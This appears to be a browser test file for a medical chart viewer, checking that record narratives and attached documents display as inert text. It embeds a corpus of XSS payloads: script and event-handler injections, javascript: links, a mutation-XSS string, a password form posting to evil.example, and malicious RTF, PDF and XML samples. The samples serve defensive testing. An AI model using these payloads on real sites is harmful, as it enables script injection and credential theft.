/** Markup out of a record, as a narrative or as a document: its words are shown, and nothing of it happens. */
import { eachSection, goTo, openFirst, openWholeChart, recordOf } from './chart-steps.ts';
import { expect, test } from './fixtures.ts';
import { changeAnswers, resourcesOf } from './threats-answers.ts';

/** Each of these did something in some browser, once. */
const corpus = `
<script>globalThis.chartsideOwned = true</script>
<img src="x" onerror="globalThis.chartsideOwned = true"><img src="http://evil.example/pixel.png">
<svg onload="globalThis.chartsideOwned = true"><script>globalThis.chartsideOwned = true</script></svg>
<iframe src="javascript:alert(1)"></iframe><object data="http://evil.example/"></object><embed src="http://evil.example/">
<p style="position:fixed;inset:0;z-index:99999;background:red url(http://evil.example/overlay)">overlay</p>
<style>body{display:none}</style><link rel="stylesheet" href="http://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<form action="http://evil.example/"><input name="password"><button>Sign in</button></form>
<a href="javascript:alert(1)">words of a link</a><a href="http://evil.example/" target="_top">leave</a>
<p id="root" name="location" class="banner" onclick="alert(1)">words of a paragraph</p>
<video src="http://evil.example/v" autoplay></video><details open ontoggle="alert(1)">x</details>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`;

test(
  'a narrative of every kind of record says its words and does nothing',
  { tag: '@threat-8' },
  async ({ page, sandbox, witness }) => {
    test.slow();
    await changeAnswers(page, sandbox, (answer) => {
      for (const resource of resourcesOf(answer))
        resource['text'] = {
          status: 'additional',
          div: `<div xmlns="http://www.w3.org/1999/xhtml">${corpus}</div>`,
        };
    });
    await openWholeChart(page, sandbox);
    let shown = 0;
    await eachSection(page, async (heading, place) => {
      if (place === '/chart' || !(await openFirst(page))) return;
      const narrative = recordOf(page).getByText('words of a paragraph').first();
      // A record may keep its narrative folded.
      if ((await narrative.count()) > 0) {
        shown += 1;
        const found = await recordOf(page).evaluate((panel) => {
          const all = [...panel.querySelectorAll<HTMLElement>('.narrative, .narrative *')];
          return {
            markup: all.filter((one) =>
              /^(script|img|svg|math|iframe|object|embed|style|link|meta|base|form|input|video|details)$/i.test(
                one.tagName,
              ),
            ).length,
            handlers: all.filter((one) =>
              one
                .getAttributeNames()
                .some((name) => /^on|^(style|id|class)$/.test(name) && !one.classList.contains('narrative')),
            ).length,
            over: all.filter((one) =>
              ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(one).position),
            ).length,
            leading: all.filter((one) => one.matches('a[href]:not([href^="#"])')).length,
          };
        });
        expect(found, heading).toEqual({ markup: 0, handlers: 0, over: 0, leading: 0 });
      }
      await page.keyboard.press('Escape');
      await expect(recordOf(page)).toHaveCount(0);
    });
    expect(shown, 'narratives seen').toBeGreaterThan(10);
    expect(await page.evaluate(() => 'chartsideOwned' in globalThis)).toBe(false);
    const urls = witness.requests.map((request) => request.url());
    expect(urls.filter((url) => url.includes('evil'))).toEqual([]);
    expect(witness.dialogs).toEqual([]);
    expect(witness.violations).toEqual([]);
  },
);

test(
  'no document becomes a page of ours: blobs are PDF by our own word, or files to keep',
  { tag: '@threat-9' },
  async ({ page, sandbox }) => {
    const blobs: string[] = [];
    await page.context().exposeFunction('tellBlob', (type: string) => void blobs.push(type));
    await page.addInitScript(() => {
      const make = URL.createObjectURL.bind(URL);
      URL.createObjectURL = (source: Blob | MediaSource): string => {
        if (source instanceof Blob)
          (globalThis as unknown as { tellBlob: (type: string) => void }).tellBlob(source.type);
        return make(source);
      };
    });
    const html = '<html><script>globalThis.chartsideOwned = true</script><p>Words to be read.</p></html>';
    const files = [
      ['text/html', html],
      ['application/xhtml+xml', html],
      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Words</text></svg>'],
      ['application/pdf', html],
      ['text/xml', `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><a>Words</a>`],
      [
        'application/rtf',
        String.raw`{\rtf1{\object\objdata 0105}{\field{\*\fldinst HYPERLINK "javascript:alert(1)"}{\fldrslt Words}}}`,
      ],
      ['application/pdf', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
    ] as const;
    await changeAnswers(page, sandbox, (answer, type) => {
      if (type !== 'DocumentReference') return;
      for (const resource of resourcesOf(answer))
        if (resource['resourceType'] === 'DocumentReference')
          resource['content'] = files.map(([contentType, text]) => ({
            attachment: { contentType, data: Buffer.from(text).toString('base64'), title: contentType },
          }));
    });
    await openWholeChart(page, sandbox);
    await goTo(page, 'Notes, documents', 'Notes and documents');
    expect(await openFirst(page)).toBe(true);
    const forms = recordOf(page).getByRole('group', { name: 'Forms of this document' }).getByRole('button');
    await expect(forms).toHaveCount(files.length);
    for (const [index, [contentType]] of files.entries()) {
      await forms.nth(index).click();
      await expect(recordOf(page).getByRole('link', { name: 'Download' })).toBeVisible();
      const isPdf = index === files.length - 1;
      await expect(recordOf(page).locator('iframe'), contentType).toHaveCount(isPdf ? 1 : 0);
      await expect(recordOf(page).locator('object, embed, script, svg[onload]'), contentType).toHaveCount(0);
    }
    // Opened as a page, what is kept would be a download.
    expect(new Set(blobs)).toEqual(new Set(['application/octet-stream', 'application/pdf']));
    expect(await page.evaluate(() => 'chartsideOwned' in globalThis)).toBe(false);
  },
);
